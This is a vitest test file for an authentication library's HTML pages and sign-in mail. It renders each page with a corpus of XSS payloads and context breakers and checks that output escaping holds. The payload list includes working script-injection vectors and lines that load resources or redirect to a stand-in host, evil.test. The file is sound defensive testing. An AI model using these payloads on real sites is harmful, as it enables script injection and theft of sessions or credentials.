import { describe, expect, it } from 'vitest'
import { type DocumentElement, readDocument } from '../../../test/document-tree.ts'
import { renderSignInMail } from '../provider-kit/mail/sign-in-mail.ts'
import { renderAccount } from './account.ts'
import { renderConfirmLink } from './confirm-link.ts'
import { renderContinue } from './continue.ts'
import { renderEndSession } from './end-session.ts'
import { renderError } from './error.ts'
import { html, trusted } from './html.ts'
import type { Page } from './page.ts'
import { renderProblem } from './problem.ts'
import { renderSignIn } from '../../../test/sign-in-page.ts'
import type { SignInProvider } from './provider-form.ts'
import { renderSignOut } from './sign-out.ts'
import { renderDevices } from './devices.ts'
import { renderSignedOut } from './signed-out.ts'
import { BASE_STYLE } from './styles.ts'
import { REVEAL_SCRIPT, REVEAL_STYLE } from './reveal.ts'
import { CODE_STYLE, renderVerifyRequest } from './verify-request.ts'
import { WEBAUTHN_SCRIPT } from './webauthn-script.ts'
import { inPart } from '../../../../../test/kit/src/in-part.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=https://evil.test><input name=csrfToken></form>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import url(https://evil.test/x.css)</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  'x onmouseover=alert(1) y=',
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'red;background:url(https://evil.test/x)',
  '}*{background:url(https://evil.test/x)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{host}{name}{ref}${alert(1)}',
  '\u0000<script>alert(1)</script>',
  '\u202e<b>txt.exe\u2066</b>',
  '__proto__',
]

// Each ends the construct it might have landed in, before the payload.
const CONTEXTS = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '</title>',
  '</style>',
  '</textarea></button>',
  '--><!--',
  ']]>',
]

const CORPUS = CONTEXTS.flatMap((context) => PAYLOADS.map((payload) => context + payload))

function signInProps(text: string): Parameters<typeof renderSignIn>[0] {
  const style = { logo: text, bg: text, text, brandColor: text, mark: text }
  const shared = { id: text, name: text, signinUrl: text, callbackUrl: text }
  const input = { label: text, type: text, placeholder: text, value: text, [text]: text }
  const harmful = { onfocus: text, style: text, formaction: text, id: text, name: text, src: text }
  const providers: readonly SignInProvider[] = [
    { ...shared, type: 'oidc', style },
    { ...shared, type: 'oauth' },
    { ...shared, type: 'oauth', style: { mark: text } },
    { ...shared, type: text },
    { ...shared, type: 'email' },
    {
      ...shared,
      type: 'webauthn',
      style,
      webauthn: { optionsUrl: text, conditional: true, askEmail: true },
    },
    { ...shared, type: 'credentials', credentials: { [text]: { ...input, ...harmful } } },
    {
      ...shared,
      type: 'credentials',
      credentials: { [text]: { ...input, ...harmful, type: 'password' } },
    },
  ]
  return {
    ...formProps(text),
    providers,
    error: 'CredentialsSignin',
    used: text,
    code: text,
    email: text,
    ref: text,
  }
}

function formProps(
  text: string,
): ReturnType<typeof pageProps> & Record<'action' | 'csrfToken' | 'callbackUrl', string> {
  return { ...pageProps(text), action: text, csrfToken: text, callbackUrl: text }
}

function pageProps(text: string): {
  host: string
  theme: { logo: string; brandColor: string; buttonText: string }
} {
  return { host: text, theme: { logo: text, brandColor: text, buttonText: text } }
}

/** Every page with the same text in every prop. */
const PAGES: Readonly<Record<string, (text: string) => Page>> = {
  'sign-in': (text) => renderSignIn(signInProps(text)),
  'sign-in with an unknown error': (text) => renderSignIn({ ...signInProps(text), error: text }),
  'sign-out': (text) =>
    renderSignOut({ ...formProps(text), cancelUrl: text, homeUrl: text, signInUrl: text }),
  error: (text) =>
    renderError({ ...pageProps(text), error: text, ref: text, signInUrl: text, homeUrl: text }),
  problem: (text) => renderProblem({ ...pageProps(text), status: 400, ref: text, homeUrl: text }),
  'verify-request': (text) =>
    renderVerifyRequest({
      ...pageProps(text),
      email: text,
      signInUrl: text,
      codeForm: formProps(text),
      codeError: true,
    }),
  'confirm-link': (text) =>
    renderConfirmLink({ ...formProps(text), email: text, token: text, expires: text }),
  continue: (text) =>
    renderContinue({ ...pageProps(text), action: text, name: text, fields: { [text]: text } }),
  'end-session': (text) =>
    renderEndSession({
      ...pageProps(text),
      action: text,
      name: text,
      fields: { [text]: text },
      stayUrl: text,
    }),
  'signed-out': (text) => renderSignedOut({ ...pageProps(text), homeUrl: text }),
  account: (text) =>
    renderAccount({
      ...formProps(text),
      methods: ['account', 'passkey'].map((type) => ({
        id: text,
        type: type === 'account' ? 'account' : 'passkey',
        name: text,
        synced: true,
        label: text,
        removable: true,
        renamable: true,
      })),
      email: text,
      devicesUrl: text,
      homeUrl: text,
      longestLabel: 64,
    }),
  devices: (text) =>
    renderDevices({
      ...formProps(text),
      devices: [
        {
          id: text,
          current: true,
          label: text,
          place: text,
          provider: text,
          createdAt: new Date(0),
          lastSeenAt: new Date(0),
        },
      ],
      now: 0,
      homeUrl: text,
    }),
}

function mail(text: string): Page {
  const url = `https://app.example.com/?x=${text}`
  const { html: markup } = renderSignInMail({ ...pageProps(text), url, code: text, minutes: 10 })
  return { html: markup, styles: [], scripts: [] }
}

// Names of elements and of their attributes, in order: what a value must not change.
function skeleton(elements: readonly DocumentElement[]): string {
  return elements
    .map(({ name, attributes }) => `${name}[${Object.keys(attributes).join()}]`)
    .join(' ')
}

function harmfulAttributes(elements: readonly DocumentElement[]): readonly string[] {
  const attributes = elements.flatMap((element) => Object.entries(element.attributes))
  return attributes.flatMap(([name, value]) => {
    if (name.startsWith('on') || name === 'srcdoc') return [name]
    if (!['href', 'action', 'src', 'formaction', 'data-webauthn'].includes(name)) return []
    const { protocol } = new URL(value, 'https://app.example.com/auth/signin')
    return /^https?:$/.test(protocol) || value.startsWith('data:image/') ? [] : [`${name}=${value}`]
  })
}

const GENERATED =
  /^(?::root\{(?:--[a-z-]+:#[0-9a-f]{6};)+\})?(?:\.mark-\d+\{(?:--[a-z-]+:#[0-9a-f]{6};)+\})*$/

/** In the normal run a page is given a third of the texts, and the sign-in page all of them. */
const chosenFor = (name: string): readonly string[] =>
  inPart(CORPUS, (_, index) => name === 'signin' || index % 3 === name.length % 3)

it('the injection tests try more than 200 strings', () => {
  expect(new Set(CORPUS).size).toBeGreaterThan(200)
})

describe.each([...Object.entries(PAGES), ['the mail', mail] as const])(
  'the HTML of %s',
  (name, render) => {
    // A text that can be the address of an image, and one that cannot.
    const expected = ['be nign', 'javascript:be nign'].map((text) =>
      skeleton(readDocument(render(text).html)),
    )

    it('has the same elements and attributes whatever the props contain', () => {
      for (const text of chosenFor(name)) {
        const elements = readDocument(render(text).html)
        expect(expected, text).toContain(skeleton(elements))
        expect(harmfulAttributes(elements), text).toEqual([])
      }
    })

    it('has only the stylesheet and computed colours as styles', () => {
      for (const text of chosenFor(name)) {
        const page = render(text)
        const [base, ...others] = page.styles
        expect(base ?? BASE_STYLE).toBe(BASE_STYLE)
        const generated = others.filter((style) => style !== REVEAL_STYLE && style !== CODE_STYLE)
        expect(generated.length).toBeLessThanOrEqual(1)
        for (const style of generated) expect(style).toMatch(GENERATED)
      }
    })
  },
)

it.each(Object.keys(PAGES))(
  'the page %s lists each style and script, and has no style attribute',
  (name) => {
    for (const text of ['be nign', ...CORPUS.slice(0, 30)]) {
      const page = PAGES[name]?.(text)
      const elements = readDocument(page?.html ?? '')
      const written = elements.filter((element) => element.name === 'style')
      expect(written.map((element) => element.text)).toEqual(page?.styles)
      const scripts = elements.filter((element) => element.name === 'script')
      expect(scripts.map((element) => element.text)).toEqual(page?.scripts)
      const known: readonly string[] = [WEBAUTHN_SCRIPT, REVEAL_SCRIPT]
      expect(page?.scripts.filter((script) => !known.includes(script))).toEqual([])
      expect(elements.filter(({ attributes }) => 'style' in attributes)).toEqual([])
    }
  },
)

const unsafe = (text: string): string => html`<p>${trusted(text)}</p>`.toString()

it('the injection tests notice a template that does not escape a value', () => {
  const expected = skeleton(readDocument(unsafe('be nign')))
  const noticed = CORPUS.filter((text) => skeleton(readDocument(unsafe(text))) !== expected)
  expect(noticed.length).toBeGreaterThan(150)
})
